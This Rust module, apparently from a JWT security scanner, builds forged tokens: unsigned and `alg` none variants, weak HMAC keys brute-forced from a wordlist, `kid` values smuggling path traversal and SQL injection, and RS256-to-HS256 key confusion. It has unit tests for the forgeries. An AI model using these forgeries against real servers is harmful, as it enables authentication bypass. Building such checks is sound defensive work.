//! Tokens that nobody has given out: what a careful server refuses.

use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use base64::prelude::BASE64_URL_SAFE_NO_PAD;
use serde_json::Value;
use serde_json::json;

use super::token::Token;
use super::token::unsigned;

/// Keys that examples have and people forget to change, and common words; our own list.
const WORDS: &str = include_str!("words.txt");

/// What the header of every RSA key has before the key itself (RFC 3279 §2.3.1).
const RSA_ID: [u8; 15] =
    [0x30, 0x0d, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x01, 0x01, 0x05, 0x00];

/// A token, and what is wrong with it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Forgery {
    pub(super) what: String,
    pub(super) token: String,
}

/// With its signature replaced by another of the same length.
pub(super) fn garbage(token: &Token) -> String {
    let swapped: String = token
        .signature
        .chars()
        .rev()
        .map(|c| match c {
            'a'..='y' | 'A'..='Y' | '0'..='8' => char::from(c as u8 + 1),
            _ => 'b',
        })
        .collect();
    format!("{}.{swapped}", token.signed)
}

/// Tokens without a signature, as some libraries take them.
pub(super) fn unsigned_ones(token: &Token) -> Vec<Forgery> {
    let mut all = vec![Forgery {
        what: "the signature left out".to_owned(),
        token: format!("{}.", token.signed),
    }];
    for spelling in ["none", "None", "NONE", "nOnE"] {
        let mut header = token.header.clone();
        header["alg"] = json!(spelling);
        let text = unsigned(&header, &token.claims);
        all.push(Forgery { what: format!("`alg` {spelling}"), token: format!("{text}.") });
    }
    let mut header = token.header.clone();
    header["alg"] = json!("none");
    let text = unsigned(&header, &token.claims);
    let what = "`alg` none with the old signature".to_owned();
    all.push(Forgery { what, token: format!("{text}.{}", token.signature) });
    all
}

/// The word of the list that the token was signed with.
pub(super) fn weak_key(token: &Token) -> Option<String> {
    let algorithm = token.algorithm();
    if !algorithm.starts_with("HS") {
        return None;
    }
    let words = WORDS.lines().map(str::to_owned);
    let encoded = WORDS.lines().map(|word| BASE64_STANDARD.encode(word));
    std::iter::once(String::new())
        .chain(words)
        .chain(encoded)
        .find(|word| token.is_signed_with(word.as_bytes()))
}

/// Tokens whose `kid` leads to a key that is known: an empty file, or what a query gives back.
pub(super) fn by_key_id(token: &Token, word: &str) -> Vec<Forgery> {
    let null = "/dev/null";
    let above = format!("{}dev/null", "../".repeat(10));
    let query = format!("x' UNION SELECT '{word}'-- ");
    let cases = [(null.to_owned(), ""), (above, ""), (query, word)];
    let forge = |(kid, key): (String, &str)| {
        let mut header = token.header.clone();
        (header["kid"], header["alg"]) = (json!(kid), json!("HS256"));
        let forged = Token::forged(&header, &token.claims, "HS256", key.as_bytes())?;
        Some(Forgery { what: format!("`kid` {kid}"), token: forged })
    };
    cases.into_iter().filter_map(forge).collect()
}

/// Tokens that are signed with a public key as if it were a secret one.
pub(super) fn confused(token: &Token, published: &str) -> Vec<Forgery> {
    let mut header = token.header.clone();
    header["alg"] = json!("HS256");
    let kid = token.header.get("kid").and_then(Value::as_str);
    let keys = keys(published, kid);
    let forge = |(what, key): (String, String)| {
        let forged = Token::forged(&header, &token.claims, "HS256", key.as_bytes())?;
        Some(Forgery { what: format!("`alg` HS256 with the {what} as the key"), token: forged })
    };
    keys.into_iter().filter_map(forge).collect()
}

/// The spellings in which a published key may be held.
fn keys(published: &str, kid: Option<&str>) -> Vec<(String, String)> {
    if published.contains("-----BEGIN PUBLIC KEY")
        || published.contains("-----BEGIN RSA PUBLIC KEY")
    {
        let trimmed = published.trim().to_owned();
        return vec![
            ("published PEM".to_owned(), published.to_owned()),
            ("published PEM and a line's end".to_owned(), format!("{trimmed}\n")),
            ("published PEM without its last line's end".to_owned(), trimmed),
        ];
    }
    let Ok(document) = serde_json::from_str::<Value>(published) else { return Vec::new() };
    let Some(all) = document["keys"].as_array() else { return Vec::new() };
    let own = all.iter().find(|key| kid.is_some() && key["kid"].as_str() == kid);
    let Some(key) = own.or_else(|| all.iter().find(|key| key["kty"] == "RSA")) else {
        return Vec::new();
    };
    let number = |name: &str| {
        let bytes =
            BASE64_URL_SAFE_NO_PAD.decode(key[name].as_str()?.trim_end_matches('=')).ok()?;
        Some(integer(&bytes))
    };
    let (Some(n), Some(e)) = (number("n"), number("e")) else { return Vec::new() };
    let plain = wrapped(0x30, &[n, e].concat());
    let bits = wrapped(0x03, &[vec![0], plain.clone()].concat());
    let whole = wrapped(0x30, &[RSA_ID.to_vec(), bits].concat());
    let (long, short) = (pem("PUBLIC KEY", &whole), pem("RSA PUBLIC KEY", &plain));
    vec![
        ("published key in PEM".to_owned(), long.clone()),
        ("published key in PEM without its last line's end".to_owned(), long.trim().to_owned()),
        ("published key in PKCS #1".to_owned(), short.clone()),
        (
            "published key in PKCS #1 without its last line's end".to_owned(),
            short.trim().to_owned(),
        ),
    ]
}

/// DER (ITU-T X.690 §8.1).
fn wrapped(tag: u8, content: &[u8]) -> Vec<u8> {
    let mut out = vec![tag];
    let length = content.len();
    if length < 128 {
        out.push(u8::try_from(length).unwrap_or_default());
    } else {
        let bytes = length.to_be_bytes();
        let used: Vec<u8> = bytes.into_iter().skip_while(|byte| *byte == 0).collect();
        out.push(0x80 | u8::try_from(used.len()).unwrap_or_default());
        out.extend(used);
    }
    out.extend_from_slice(content);
    out
}

/// A number that is not negative.
fn integer(bytes: &[u8]) -> Vec<u8> {
    let mut content: Vec<u8> = bytes.iter().copied().skip_while(|byte| *byte == 0).collect();
    if content.first().is_none_or(|byte| byte & 0x80 != 0) {
        content.insert(0, 0);
    }
    wrapped(0x02, &content)
}

fn pem(label: &str, der: &[u8]) -> String {
    let text = BASE64_STANDARD.encode(der);
    let lines: Vec<&str> = text
        .as_bytes()
        .chunks(64)
        .map(|line| std::str::from_utf8(line).unwrap_or_default())
        .collect();
    format!("-----BEGIN {label}-----\n{}\n-----END {label}-----\n", lines.join("\n"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn token(key: &str) -> Token {
        let header = json!({"alg": "HS256", "typ": "JWT"});
        let text = Token::forged(&header, &json!({"sub": "alice"}), "HS256", key.as_bytes());
        Token::parse(&text.expect("a token")).expect("a token")
    }

    #[test]
    fn words_of_the_list_are_found_and_random_keys_are_not() {
        assert!(WORDS.lines().count() >= 300);
        for word in ["secret", "changeme", "your-256-bit-secret", ""] {
            assert_eq!(weak_key(&token(word)).as_deref(), Some(word));
        }
        assert_eq!(
            weak_key(&token(&BASE64_STANDARD.encode("secret"))).as_deref(),
            Some("c2VjcmV0")
        );
        assert_eq!(weak_key(&token("kJ8!x2hq-0Zt4vWm")), None);
    }

    #[test]
    fn what_is_forged_is_another_token() {
        let token = token("a");
        assert_ne!(garbage(&token), format!("{}.{}", token.signed, token.signature));
        for forgery in unsigned_ones(&token) {
            let parsed = Token::parse(&forgery.token).expect("a token");
            assert_eq!(parsed.claims, token.claims, "{}", forgery.what);
        }
        let empty = &by_key_id(&token, "word")[0];
        assert!(Token::parse(&empty.token).expect("a token").is_signed_with(b""));
    }

    #[test]
    fn a_published_key_is_written_as_others_write_it() {
        // RFC 7517 §A.1's second key, and the same as OpenSSL writes it.
        let n = "0vx7agoebGcQSuuPiLJXZptN9nndrQmbXEps2aiAFbWhM78LhWx4cbbfAAtVT86zwu1RK7aPFFxuhDR1L6tSoc_BJECPebWKRXjBZCiFV4n3oknjhMstn64tZ_2W-5JsGY4Hc5n9yBXArwl93lqt7_RN5w6Cf0h4QyQ5v-65YGjQR0_FDW2QvzqY368QQMicAtaSqzs8KJZgnYb9c7d0zgdAZHzu6qMQvRL5hajrn1n91CbOpbISD08qNLyrdkt-bFTWhAI4vMQFh6WeZu0fM4lFd2NcRwr3XPksINHaQ-G_xBniIqbw0Ls1jF44-csFCur-kEgU8awapJzKnqDKgw";
        let published = json!({"keys": [{"kty": "RSA", "n": n, "e": "AQAB", "kid": "1"}]});
        let keys = keys(&published.to_string(), Some("1"));
        assert_eq!(keys.len(), 4);
        let begin = "-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA0vx7agoebGcQSuuPiLJX\n";
        assert!(keys[0].1.starts_with(begin), "{}", keys[0].1);
        assert!(keys[0].1.ends_with("AQAB\n-----END PUBLIC KEY-----\n"), "{}", keys[0].1);
    }
}
